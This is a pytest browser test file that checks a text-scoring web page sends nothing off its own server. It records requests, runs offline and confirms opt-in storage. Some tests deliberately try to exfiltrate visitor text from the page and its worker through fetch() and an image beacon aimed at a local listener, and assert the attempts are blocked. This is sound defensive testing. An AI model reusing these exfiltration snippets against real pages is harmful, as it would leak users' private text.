"""Nothing leaves the page: seen in its requests, with the network off, and by trying to make it."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from typing import Any, ClassVar

import pytest

from tests.browser.conftest import at_rest, boot, enter

SECRET = "the words of a visitor"


@pytest.fixture(scope="module")
def spied(browser: Any, home: str) -> Iterator[Any]:
    """A page of its own, with every request it and its worker make written down."""
    context = browser.new_context()
    requests: list[str] = []
    context.on("request", lambda request: requests.append(request.url))
    page = boot(context, home)
    page.requests = requests
    yield page
    context.close()


class Listener(BaseHTTPRequestHandler):
    """Another server, which must never hear a thing."""

    heard: ClassVar[list[str]] = []

    def do_POST(self) -> None:
        self.heard.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_GET = do_OPTIONS = do_POST

    def log_message(self, *_: object) -> None: ...


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[str]:
    with HTTPServer(("127.0.0.1", 0), Listener) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}/"
        server.shutdown()


def test_every_request_goes_to_the_page_s_own_server(spied: Any, home: str) -> None:
    assert spied.requests
    assert [url for url in spied.requests if not url.startswith((home, "blob:" + home))] == []


def test_no_request_after_boot_and_it_works_with_the_network_off(spied: Any) -> None:
    assert "works offline" in spied.inner_text("#status-text")
    spied.requests.clear()
    spied.context.set_offline(True)
    try:
        metrics = [link.get_attribute("data-view") for link in spied.locator("#tabs a").all()]
        for metric in metrics:
            if metric != "files":
                enter(spied, metric, f"{SECRET} {metric} automobile", f"{SECRET} here car")
                assert float(spied.inner_text("#score-percent")) > 0
        at_rest(spied)
    finally:
        spied.context.set_offline(False)
    assert spied.requests == []


@pytest.mark.parametrize("how", ["fetch(url, {method: 'POST', mode: 'no-cors', body: words})", "fetch(url + words)"])
def test_the_worker_cannot_send_the_text_elsewhere(spied: Any, elsewhere: str, how: str) -> None:
    worker = spied.workers[0]
    tried = worker.evaluate(
        f"([url, words]) => {how}.then(() => 'sent', error => 'blocked: ' + error.message)", [elsewhere, SECRET]
    )
    assert tried.startswith("blocked")
    assert Listener.heard == []


def test_the_page_cannot_either(spied: Any, elsewhere: str) -> None:
    tried = spied.evaluate("url => fetch(url).then(() => 'sent', () => 'blocked')", elsewhere)
    assert tried == "blocked"
    spied.evaluate(
        "url => new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = url; })", elsewhere
    )
    assert Listener.heard == []


def test_text_is_kept_only_if_asked(spied: Any) -> None:
    assert SECRET not in spied.evaluate("JSON.stringify({...localStorage})")
    enter(spied, "bleu", SECRET, SECRET)
    spied.check("#keep-text")
    assert SECRET in spied.evaluate("JSON.stringify({...localStorage})")
    spied.uncheck("#keep-text")
    assert SECRET not in spied.evaluate("JSON.stringify({...localStorage})")
